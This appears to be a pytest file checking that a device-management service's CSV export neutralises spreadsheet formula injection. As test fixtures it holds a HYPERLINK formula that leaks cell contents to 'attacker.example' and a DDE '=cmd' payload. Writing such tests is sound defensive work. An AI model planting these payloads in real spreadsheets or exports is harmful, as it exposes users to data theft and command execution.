"""CSV the service writes is safe to open in a spreadsheet: no cell can start a formula (issue 9, M3)."""

import csv
import io

from sqlalchemy import text

from compliance.service import run_compliance
from mdm.actor import Role
from mdm.csv_export import csv_lines, safe_cell
from tests.fleet import Tablet

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def test_a_formula_in_a_name_or_asset_tag_reaches_the_noncompliant_csv_as_text(client, auth, tmp_path, database):
    person = client.post(
        "/api/v1/people",
        json={"external_id": "@A1", "kind": "learner", "display_name": HYPERLINK},
        headers=auth(Role.admin),
    ).json()
    ipad = Tablet(client, auth, tmp_path, "IPAD1", person_id=person["id"])
    ipad.inventory.passcode_set = False
    ipad.agent.state.save()
    ipad.converge()
    with database.writing() as session:
        session.execute(text("UPDATE device SET asset_tag = '+1-1' WHERE id = :id"), {"id": ipad.id})
    run_compliance(database, "test")

    response = client.get("/api/v1/compliance/noncompliant.csv", headers=auth(Role.technician))

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 1
    assert rows[0]["person_name"] == "'" + HYPERLINK
    assert rows[0]["person_external_id"] == "'@A1"
    assert rows[0]["asset_tag"] == "'+1-1"
    assert rows[0]["serial"] == "IPAD1"  # ordinary cells are untouched
    assert rows[0]["device_id"] == ipad.id


def test_every_formula_trigger_is_neutralised_and_nothing_else():
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{trigger}1+1") == f"'{trigger}1+1"
    for harmless in ("Ann Smith", "A=B", "", "'quoted", "2024-01-01T00:00:00"):
        assert safe_cell(harmless) == harmless
    assert safe_cell(None) == ""
    assert safe_cell(-3) == "'-3"


def test_csv_lines_round_trip_through_the_csv_module():
    text_out = "".join(csv_lines([["name", "note"], ['=cmd|" /C calc"!A0', "line one\nline two, with comma"]]))
    assert list(csv.reader(io.StringIO(text_out))) == [
        ["name", "note"],
        ['\'=cmd|" /C calc"!A0', "line one\nline two, with comma"],
    ]
